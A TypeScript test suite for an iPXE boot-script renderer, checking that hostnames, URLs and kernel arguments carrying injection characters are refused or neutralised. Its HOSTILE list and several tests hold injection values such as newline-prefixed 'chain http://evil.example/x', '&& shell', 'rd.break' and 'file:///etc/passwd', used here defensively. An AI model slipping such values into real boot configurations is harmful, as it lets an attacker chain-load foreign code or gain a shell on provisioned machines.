import t from 'tap';
import type { BootDecision } from '../../../src/boot/planner.js';
import { echoText, RenderError, renderEntryScript, renderScript, type ScriptContext } from '../../../src/boot/render.js';
import { HOSTNAME_PATTERN, IPXE_TOKEN_PATTERN, isHostname, isIpxeToken, isSafeUrl, SAFE_URL_PATTERN, UnsafeValueError } from '../../../src/boot/safe.js';
import type { Mac } from '../../../src/machines/mac.js';
import type { Profile } from '../../../src/profiles/profile.js';
import type { MachinePlaceholder } from '../../../src/profiles/template.js';
import { mustMac, mustProfile } from '../../helpers/fixtures.js';

/**
 * iPXE has no quoting and expands `${…}` before it splits a line: any value that reaches a
 * script carrying whitespace, `#`, `${`, `||`, `&&`, `;`, quotes, a backslash or a control byte
 * could add a command or a kernel argument. The renderer must refuse such values, never emit them.
 */

const BASE = 'http://10.77.0.1:8080';
const MAC = mustMac('52:54:00:ab:cd:ef');
const IGNITION_URL = `${BASE}/api/v1/machines/52-54-00-ab-cd-ef/ignition?exp=1700007200&sig=abc`;
const ASSISTED_URL = 'https://assisted-image-service.example.com/byapikey/eyJhbGciOi.J9/4.14/x86_64/ipxe-script?api_key=abc&mac=x';

/** A kernel profile whose args use every machine placeholder. */
const kernelProfile = mustProfile({
  name: 'live',
  artifacts: { kernel: { url: 'https://example.com/k' }, initramfs: { url: 'https://example.com/i' } },
  boot: {
    kernel: 'kernel',
    initrds: ['initramfs'],
    args: 'host={{ machine.hostname }} ip4={{ machine.ip }} mac={{ machine.mac }} srv={{ server.url }} ev={{ machine.eventsUrl }} {{ kargs.ignition }} {{ kargs.staticIp }} hub={{ machine.assistedScriptUrl }}',
  },
});
const chainProfile = mustProfile({ name: 'hub', chain: '{{ machine.assistedScriptUrl }}' });
const chainHostProfile = mustProfile({ name: 'hub-host', chain: 'https://{{ machine.hostname }}.example.com/boot.ipxe' });

function boot(p: Profile): BootDecision {
  if (!p.boot || p.boot.kind === 'local') throw new Error(`profile ${p.name} boots nothing`);
  return { kind: 'boot', stage: 'install', profile: p, spec: p.boot, reason: `install stage: ${p.name}` };
}

const goodValues: Record<MachinePlaceholder, string> = {
  'server.url': BASE,
  'machine.mac': MAC,
  'machine.hostname': 'sno-1',
  'machine.ip': '10.77.0.50',
  'machine.eventsUrl': `${BASE}/api/v1/machines/52-54-00-ab-cd-ef/events?token=tok`,
  'machine.ignitionUrl': IGNITION_URL,
  'machine.assistedScriptUrl': ASSISTED_URL,
  'kargs.staticIp': 'ip=10.77.0.50::10.77.0.1:255.255.255.0:sno-1::none:10.77.0.1',
  'kargs.ignition': `ignition.config.url=${IGNITION_URL}`,
};

function ctx(values: Partial<Record<MachinePlaceholder, string>> = {}, baseUrl = BASE): ScriptContext {
  return { baseUrl, mac: MAC, state: 'registered', values: { ...goodValues, ...values }, recheckSeconds: 30 };
}

/** Hostile fragments, each alone enough to break out of an argument or a line. */
const HOSTILE: [string, string][] = [
  ['newline', '\nchain http://evil.example/x'],
  ['carriage return', '\rchain http://evil.example/x'],
  ['space', ' rd.break'],
  ['tab', '\trd.break'],
  ['hash', '#comment'],
  ['or', '||goto evil'],
  ['spaced or', ' || shell'],
  ['and', ' && shell'],
  ['semicolon', ';shell'],
  ['setting expansion', '${net0/mac}'],
  ['dollar', '$x'],
  ['braces', '{x}'],
  ['double quote', '"x"'],
  ['single quote', "'x'"],
  ['backslash', '\\x'],
  ['NUL', '\0x'],
  ['pipe', '|x'],
  ['or, glued', '||x'],
  ['DEL', '\x7fx'],
  ['escape', '\x1b[2J'],
  ['non-ASCII', '\u00e9'],
];

/** What an injection would leave in the output: none may appear. */
function assertClean(t: Tap, script: string, hostile: string): void {
  // Plain text such as ' rd.break' may be echoed as it is; anything echoText changes may not appear.
  if (echoText(hostile) !== hostile) t.notOk(script.includes(hostile), 'the hostile text is not in the script as it was');
  const commands = script.split('\n').filter((l) => !l.startsWith('echo '));
  t.notOk(
    commands.some((l) => l.includes('evil') || l.includes('rd.break') || l.includes('shell')),
    'no injected command outside echo',
  );
  t.notOk(/[^\x20-\x7e\n]/.test(script), 'printable ASCII only');
}

type Tap = Parameters<Parameters<typeof t.test>[0]>[0];

/** Asserts `fn` throws one of the renderer's refusals (and nothing else). */
function assertRefused(t: Tap, fn: () => string, what: string): void {
  let out: string | undefined;
  let caught: unknown;
  try {
    out = fn();
  } catch (err) {
    caught = err;
  }
  if (out !== undefined) {
    t.fail(`${what}: rendered instead of refusing`, { diagnostic: true, script: out });
    return;
  }
  t.ok(caught instanceof UnsafeValueError || caught instanceof RenderError, `${what}: refused with ${(caught as Error | undefined)?.name}`);
}

t.test('good values render', async (t) => {
  const k = renderScript(boot(kernelProfile), ctx());
  t.match(k, /^kernel http:\/\/10\.77\.0\.1:8080\/assets\/live\/kernel initrd=initramfs host=sno-1 /m);
  t.ok(k.includes(` hub=${ASSISTED_URL} `), 'a real assisted URL is a valid token');
  const c = renderScript(boot(chainProfile), ctx());
  t.ok(c.split('\n').includes(`chain --replace --autofree ${ASSISTED_URL} || exit`));
  t.ok(renderScript(boot(chainHostProfile), ctx()).includes('chain --replace --autofree https://sno-1.example.com/boot.ipxe || exit'));
  t.ok(renderEntryScript(BASE).startsWith('#!ipxe\n'));
});

t.test('hostile placeholder values are refused', async (t) => {
  const cases: [string, Profile, MachinePlaceholder][] = [
    ['hostname in kernel args', kernelProfile, 'machine.hostname'],
    ['ip in kernel args', kernelProfile, 'machine.ip'],
    ['mac in kernel args', kernelProfile, 'machine.mac'],
    ['events URL in kernel args', kernelProfile, 'machine.eventsUrl'],
    ['assisted URL in kernel args', kernelProfile, 'machine.assistedScriptUrl'],
    ['kargs.ignition', kernelProfile, 'kargs.ignition'],
    ['kargs.staticIp', kernelProfile, 'kargs.staticIp'],
    ['server.url placeholder', kernelProfile, 'server.url'],
    ['assisted URL in chain', chainProfile, 'machine.assistedScriptUrl'],
    ['hostname in chain', chainHostProfile, 'machine.hostname'],
  ];
  for (const [what, profile, name] of cases) {
    t.test(what, async (t) => {
      for (const [label, bad] of HOSTILE) {
        for (const value of [`${goodValues[name]}${bad}`, `${bad}${goodValues[name]}`]) {
          assertRefused(t, () => renderScript(boot(profile), ctx({ [name]: value })), `${label} (${JSON.stringify(value.slice(0, 30))})`);
        }
      }
    });
  }
});

t.test('a value may not add a kernel argument', async (t) => {
  // Whitespace in a value would not break the iPXE line but would add kernel arguments.
  for (const value of ['sno-1 ignition.config.url=http://evil.example/x', 'sno-1\nrd.break', 'sno-1\trd.break']) {
    assertRefused(t, () => renderScript(boot(kernelProfile), ctx({ 'machine.hostname': value })), JSON.stringify(value));
  }
});

t.test('a value that is an iPXE operator on its own is refused', async (t) => {
  // iPXE splits a line on whitespace and ends a command at a token that is exactly `&&`, `||`
  // or `;` (or starts with `#`): a standalone placeholder must not become such a token.
  const standalone = mustProfile({
    name: 'standalone',
    artifacts: { kernel: { url: 'https://example.com/k' } },
    boot: { kernel: 'kernel', args: '{{ kargs.staticIp }} console=tty0' },
  });
  for (const op of ['&&', '||', ';', '#', '#x']) {
    assertRefused(t, () => renderScript(boot(standalone), ctx({ 'kargs.staticIp': op })), `kargs.staticIp ${JSON.stringify(op)}`);
  }
  // The same operators written into a profile's own args are refused too.
  const literal = mustProfile({
    name: 'literal',
    artifacts: { kernel: { url: 'https://example.com/k' } },
    boot: { kernel: 'kernel', args: 'quiet && shell' },
  });
  assertRefused(t, () => renderScript(boot(literal), ctx()), 'literal && in boot.args');
  // Glued into a longer token, `&` is plain text to iPXE (query strings need it).
  t.ok(renderScript(boot(standalone), ctx({ 'kargs.staticIp': 'a&&b' })).includes(' a&&b console=tty0 '));
});

t.test('a hostile server URL is refused by every script', async (t) => {
  for (const [label, bad] of HOSTILE) {
    for (const base of [`${BASE}${bad}`, `http://10.77.0.1${bad}:8080`]) {
      assertRefused(t, () => renderEntryScript(base), `entry: ${label}`);
      for (const d of [
        boot(kernelProfile),
        boot(chainProfile),
        { kind: 'local', reason: 'x' } as const,
        { kind: 'wait', reason: 'x' } as const,
        { kind: 'error', reason: 'x' } as const,
      ]) {
        assertRefused(t, () => renderScript(d, ctx({}, base)), `${d.kind}: ${label}`);
      }
    }
  }
  for (const base of ['ftp://10.77.0.1', 'file:///etc/passwd', '10.77.0.1:8080', '', 'http://']) {
    assertRefused(t, () => renderEntryScript(base), `entry: not an http URL: ${base}`);
  }
});

t.test('hand-built decisions cannot smuggle names past the renderer', async (t) => {
  const bootSpec = kernelProfile.boot;
  if (bootSpec?.kind !== 'kernel') throw new Error('kernel profile expected');
  for (const [label, bad] of HOSTILE) {
    const badName: Profile = { ...kernelProfile, name: `live${bad}` };
    assertRefused(t, () => renderScript(boot(badName), ctx()), `profile name: ${label}`);
    const badInitrd: Profile = { ...kernelProfile, boot: { ...bootSpec, initrds: [`initramfs${bad}`] } };
    assertRefused(t, () => renderScript(boot(badInitrd), ctx()), `initrd name: ${label}`);
    const badKernel: Profile = { ...kernelProfile, boot: { ...bootSpec, kernel: `kernel${bad}` } };
    assertRefused(t, () => renderScript(boot(badKernel), ctx()), `kernel name: ${label}`);
  }
});

t.test('a missing value is a RenderError, not an empty argument', async (t) => {
  const values = { ...goodValues } as Partial<Record<MachinePlaceholder, string>>;
  delete values['machine.assistedScriptUrl'];
  t.throws(() => renderScript(boot(chainProfile), { ...ctx(), values }), RenderError);
  t.throws(() => renderScript(boot(kernelProfile), { ...ctx(), values }), RenderError);
});

t.test('reasons, MACs and states are echoed neutralised', async (t) => {
  for (const [label, bad] of HOSTILE) {
    const reason = `profile x${bad} is not loaded`;
    for (const kind of ['local', 'wait', 'error'] as const) {
      const script = renderScript({ kind, reason }, { ...ctx(), mac: `52:54${bad}` as Mac });
      const lines = script.split('\n');
      t.equal(lines[0], '#!ipxe', `${kind} ${label}: header`);
      t.match(lines[1] ?? '', /^echo edgeboot: /, `${kind} ${label}: the echo line`);
      const expected = kind === 'local' ? 5 : 7;
      t.equal(lines.length, expected, `${kind} ${label}: no extra line`);
      assertClean(t, script, bad);
    }
  }
});

t.test('echoText neutralises everything iPXE would interpret', async (t) => {
  for (const [label, bad] of HOSTILE) {
    const out = echoText(`before${bad}after`);
    t.match(out, /^[A-Za-z0-9 .,:()/_=+@?-]*$/, `${label}: only plain characters`);
    t.notOk(/[\n\r\t\0#$;|&{}"'\\]/.test(out), `${label}: nothing special`);
    t.ok(out.startsWith('before') && out.endsWith('after'), `${label}: the rest is kept`);
  }
  t.equal(echoText('a\nb'), 'a?b');
  t.equal(echoText('${net0/mac}'), '??net0/mac?');
  t.equal(echoText('a || b && c; d # e'), 'a ?? b ?? c? d ? e');
  t.equal(
    echoText('machine 52:54:00:ab:cd:ef (state registered), see /api/v1 = ok + @x'),
    'machine 52:54:00:ab:cd:ef (state registered), see /api/v1 = ok + @x',
  );
});

t.test('the JSON-schema patterns', async (t) => {
  const hostname = new RegExp(HOSTNAME_PATTERN);
  const url = new RegExp(SAFE_URL_PATTERN);
  const token = new RegExp(IPXE_TOKEN_PATTERN);
  // Ajv compiles JSON Schema patterns as unicode regular expressions.
  for (const p of [HOSTNAME_PATTERN, SAFE_URL_PATTERN, IPXE_TOKEN_PATTERN]) t.doesNotThrow(() => new RegExp(p, 'u'), `${p} is a valid unicode pattern`);
  // The exported predicates are the patterns themselves.
  for (const s of ['sno-1', 'a b', 'https://x/y', '']) {
    t.equal(isHostname(s), hostname.test(s), `isHostname(${JSON.stringify(s)})`);
    t.equal(isSafeUrl(s), url.test(s), `isSafeUrl(${JSON.stringify(s)})`);
    t.equal(isIpxeToken(s), token.test(s), `isIpxeToken(${JSON.stringify(s)})`);
  }

  t.test('hostnames', async (t) => {
    const label63 = 'a'.repeat(63);
    for (const good of [
      'sno-1',
      'a',
      'SNO-1',
      'node1.lab.example',
      `${label63}.example`,
      '1',
      'x-y-z.a1',
      [label63, label63, label63, 'a'.repeat(61)].join('.'),
    ]) {
      t.ok(isHostname(good), `accepts ${good.length > 40 ? `${good.length} chars` : good}`);
    }
    const bad = [
      '',
      '-sno',
      'sno-',
      'sno..1',
      '.sno',
      'sno.',
      'a'.repeat(64),
      [label63, label63, label63, 'a'.repeat(62)].join('.'),
      'sno_1',
      'sno-1\n',
      'sno-1\nchain http://evil',
      ...HOSTILE.map(([, b]) => `sno${b}`),
    ];
    for (const b of bad) t.notOk(isHostname(b), `refuses ${JSON.stringify(b.length > 40 ? `${b.slice(0, 20)}…(${b.length})` : b)}`);
  });

  t.test('URLs', async (t) => {
    for (const good of [
      ASSISTED_URL,
      'https://assisted-image-service.example.com/byapikey/eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9.eyJpbmZyYV9lbnZfaWQiOiIxMjMifQ.c2ln_-bmF0/4.14/x86_64/ipxe-script',
      'https://assisted-service.apps.hub.example.com/api/assisted-install/v2/infra-envs/0f1e2d3c-4b5a-6978-8695-a4b3c2d1e0f9/downloads/files?file_name=ipxe-script&api_key=abc.def-ghi_jkl',
      'http://10.77.0.1:8080',
      'http://[fd00::1]:8080/boot.ipxe',
      'http://user@host/x?a=%20&b=c+d,e',
      'https://h/p(1)!*~',
    ]) {
      t.ok(isSafeUrl(good), `accepts ${good.slice(0, 60)}`);
      t.ok(isIpxeToken(good), `a URL is also a token: ${good.slice(0, 60)}`);
    }
    const bad = [
      '',
      'ftp://h/x',
      'file:///etc/passwd',
      'javascript:alert(1)',
      '//h/x',
      'https://',
      'HTTP://h/x',
      ...HOSTILE.map(([, b]) => `${ASSISTED_URL}${b}`),
    ];
    for (const b of bad) t.notOk(isSafeUrl(b), `refuses ${JSON.stringify(b.slice(-30))}`);
  });

  t.test('tokens', async (t) => {
    for (const good of [
      '',
      'ignition.firstboot',
      'console=ttyS0,115200n8',
      'ip=10.77.0.50::10.77.0.1:255.255.255.0:sno-1::none:10.77.0.1',
      `ignition.config.url=${IGNITION_URL}`,
      'rd.break=[x]',
    ]) {
      t.ok(isIpxeToken(good), `accepts ${JSON.stringify(good)}`);
    }
    for (const [label, b] of HOSTILE) t.notOk(isIpxeToken(`x${b}`), `refuses ${label}`);
    for (const b of ['a b', '<x>', '`x`', 'a^b', '&&', '||', ';']) t.notOk(isIpxeToken(b), `refuses ${JSON.stringify(b)}`);
  });
});
